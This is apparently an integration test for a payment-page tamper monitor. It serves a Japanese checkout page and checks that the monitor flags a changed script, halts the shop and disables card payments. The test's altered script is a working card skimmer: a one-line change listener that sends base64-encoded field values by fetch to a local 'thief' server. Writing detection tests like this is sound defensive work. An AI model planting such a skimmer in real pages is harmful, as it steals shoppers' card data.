import { createServer, type Server as HttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Judgement, LedgerEntry } from '@komainu/model';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { z } from 'zod';
import { StateBody } from '../src/index.ts';
import { config, memoryShop, type Running, running, until } from './harness.ts';

// The real probe in a real Chromium, on a payment page that hides its card form while the shop's card method is off.
const shop = memoryShop();
let altered = false;
let site: HttpServer;
let thief: HttpServer;
let at: Running;
let stolen = 0;

const page = () => `<!doctype html><html lang="ja"><head><title>お支払い</title></head><body><h1>お支払い</h1>
<form action="/pay" method="post">${
  shop.methods.get('card') === true
    ? `<label>カード番号 <input name="cardnumber" autocomplete="cc-number"></label>
<label>有効期限 <input name="exp" autocomplete="cc-exp"></label>
<label>セキュリティコード <input name="cvc" autocomplete="cc-csc"></label>
<label>名義 <input name="holder" autocomplete="cc-name"></label>`
    : '<p>ただいまカードはご利用いただけません。</p>'
}</form><script src="/pay.js"></script></body></html>`;
const script = () =>
  altered
    ? `document.addEventListener('change', (e) => fetch('http://127.0.0.2:${port(thief)}/c?d=' + btoa(e.target.value), { mode: 'no-cors' }));`
    : 'document.title += "";';
const port = (server: HttpServer): number => (server.address() as AddressInfo).port;

beforeAll(async () => {
  site = createServer((request, response) => {
    const isScript = request.url === '/pay.js';
    response.writeHead(200, { 'content-type': isScript ? 'text/javascript' : 'text/html; charset=utf-8' });
    response.end(isScript ? script() : page());
  });
  thief = createServer((_, response) => {
    stolen += 1;
    response.end();
  });
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.2', resolve));
  const pages = [{ id: 'payment', url: `http://127.0.0.1:${port(site)}/checkout`, journey: 'built-in' }];
  at = await running(
    { config: config({}, { pages, privateNetwork: true }), ports: { shop: () => shop } },
    shop,
  );
});

afterAll(async () => {
  await at.end();
  site.close();
  thief.close();
});

const CHECK = '/api/shops/komorebi/pages/payment/check';
const Checked = z.object({ check: z.string(), verdict: z.string(), judgement: z.string() });
const check = async () => Checked.parse(await (await at.ask('POST', CHECK)).json());
const gate = async () =>
  StateBody.parse(await (await at.ask('GET', '/api/state')).json()).shops[0]?.gate.state;
const judgement = async (ref: string) =>
  Judgement.parse(await (await at.ask('GET', `/api/judgements/${ref}`)).json());
const kinds = async () =>
  z
    .object({ entries: z.array(z.object({ entry: LedgerEntry })) })
    .parse(await (await at.ask('GET', '/api/entries?limit=1000')).json())
    .entries.map(({ entry }) => entry.kind);

test('from a first look to a baseline to a clean check', async () => {
  const first = await check();
  expect(first.verdict).toBe('changed');
  const approved = await at.ask('POST', '/api/shops/komorebi/pages/payment/baseline', {
    person: '田中',
    check: first.check,
    justification: '開店時の状態',
  });
  expect(approved.status).toBe(200);
  const second = await check();
  const found = (await judgement(second.judgement)).findings.map(({ key }) => key);
  expect({ verdict: second.verdict, found }).toEqual({ verdict: 'clean', found: [] });
});

test('an altered page halts the shop, and a visit proves it', async () => {
  altered = true;
  const third = await check();
  expect(third.verdict).toBe('tampered');
  await until(async () => (await gate()) === 'halted', 'a halted gate');
  expect(shop.methods.get('card')).toBe(false);
  expect(stolen).toBeGreaterThan(0);
  expect(await kinds()).toEqual(
    expect.arrayContaining(['incident.opened', 'halt.ordered', 'halt.voided', 'halt.proved']),
  );
});

test('a halted page is still checked, as far as a shopper gets now', async () => {
  altered = false;
  const now = await check();
  const grades = (await judgement(now.judgement)).findings.map(({ grade }) => grade);
  expect(grades).not.toContain('tampered');
  expect(grades).not.toContain('changed');
});
